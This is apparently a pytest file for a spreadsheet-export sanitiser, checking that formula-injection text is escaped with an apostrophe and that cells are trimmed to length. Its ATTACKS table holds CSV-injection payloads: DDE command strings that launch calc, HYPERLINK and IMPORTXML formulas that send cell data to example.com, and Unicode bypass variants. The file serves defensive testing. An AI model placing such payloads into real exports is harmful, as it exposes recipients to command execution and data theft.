"""What spreadsheets would run stays a text. The table is of attacks as they are known; each has its cell beside it."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.rules.spreadsheet_text import CUT, LONGEST_CELL, for_csv, for_xlsx, is_formula

ATTACKS = [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"),
    ("+cmd|'/C calc'!A0", "'+cmd|'/C calc'!A0"),
    ("-2+3+cmd|'/C calc'!A0", "'-2+3+cmd|'/C calc'!A0"),
    ('=HYPERLINK("http://example.com?x="&A1)', '\'=HYPERLINK("http://example.com?x="&A1)'),
    ('=IMPORTXML(CONCAT("http://example.com/",A1),"//a")', '\'=IMPORTXML(CONCAT("http://example.com/",A1),"//a")'),
    ("  =1", "'  =1"),
    ("\N{NO-BREAK SPACE}=1", "'\N{NO-BREAK SPACE}=1"),
    ("\N{IDEOGRAPHIC SPACE}=1", "'\N{IDEOGRAPHIC SPACE}=1"),
    ("\N{ZERO WIDTH SPACE}=1", "'\N{ZERO WIDTH SPACE}=1"),
    ("\N{ZERO WIDTH NO-BREAK SPACE}=1", "'\N{ZERO WIDTH NO-BREAK SPACE}=1"),
    ("\0=1", "'\0=1"),
    ("\N{FULLWIDTH EQUALS SIGN}1", "'\N{FULLWIDTH EQUALS SIGN}1"),
    ("\N{FULLWIDTH PLUS SIGN}1", "'\N{FULLWIDTH PLUS SIGN}1"),
    ("\N{FULLWIDTH HYPHEN-MINUS}1", "'\N{FULLWIDTH HYPHEN-MINUS}1"),
    ("\N{FULLWIDTH COMMERCIAL AT}SUM(A1)", "'\N{FULLWIDTH COMMERCIAL AT}SUM(A1)"),
    ("\N{SMALL EQUALS SIGN}1", "'\N{SMALL EQUALS SIGN}1"),
    ("\N{MINUS SIGN}1", "'\N{MINUS SIGN}1"),
    ('"=1"', '\'"=1"'),
    ("\t=1", "'\t'=1"),
    ("\r=1", "'\r'=1"),
    ("\n=1", "'\n'=1"),
    ("\tplain", "'\tplain"),
    ("two boxes;=1+1", "two boxes;'=1+1"),
    ("two boxes; -3", "two boxes;' -3"),
    ('two boxes;"=1+1"', 'two boxes;\'"=1+1"'),
    ("two boxes\t@SUM(A1)", "two boxes\t'@SUM(A1)"),
    ("two boxes\r\n=1", "two boxes\r\n'=1"),
    ("a;;=1;b", "a;;'=1;b"),
]


@pytest.mark.parametrize(("text", "cell"), ATTACKS)
def test_an_attack_gets_an_apostrophe(text: str, cell: str) -> None:
    assert for_csv(text) == cell


@pytest.mark.parametrize(
    "text", ["", "BOLT-10", "A-01-03", "3 = 4", "a+b", "“=1”", "no; really", "O'Neil", "Größe", "two\nlines", "{a: -3}"]
)
def test_a_plain_text_is_left_alone(text: str) -> None:
    assert for_csv(text) == text


@given(st.text(st.sampled_from(' \t\r\n;"=+-@a\u200b\uff1d'), max_size=12))
def test_no_cell_is_a_formula_whatever_parts_the_cells(text: str) -> None:
    cell = for_csv(text)
    for mark in (",", ";", "\t"):
        for row in csv.reader(StringIO(cell, newline=""), delimiter=mark, quoting=csv.QUOTE_NONE):
            assert not any(is_formula(part) for part in row)


def test_a_text_in_a_sheet_is_cut_where_a_cell_ends_and_says_so() -> None:
    assert for_xlsx("x" * LONGEST_CELL) == "x" * LONGEST_CELL
    cut = for_xlsx("x" * (LONGEST_CELL + 1))
    assert (len(cut), cut[-len(CUT) :]) == (LONGEST_CELL, CUT)
    faces = for_xlsx("\N{GRINNING FACE}" * LONGEST_CELL)
    assert len(faces.encode("utf-16-le")) <= LONGEST_CELL * 2
    assert faces.endswith(f"\N{GRINNING FACE}{CUT}")


def test_a_text_in_a_sheet_is_no_markup_and_has_no_letter_that_xml_lacks() -> None:
    assert for_xlsx("<r><t>x</t></r>") == " <r><t>x</t></r>"
    assert for_xlsx("a\ufffeb\uffffc\ud800d") == "a\ufffdb\ufffdc\ufffdd"
    assert for_xlsx("=1+1") == "=1+1"
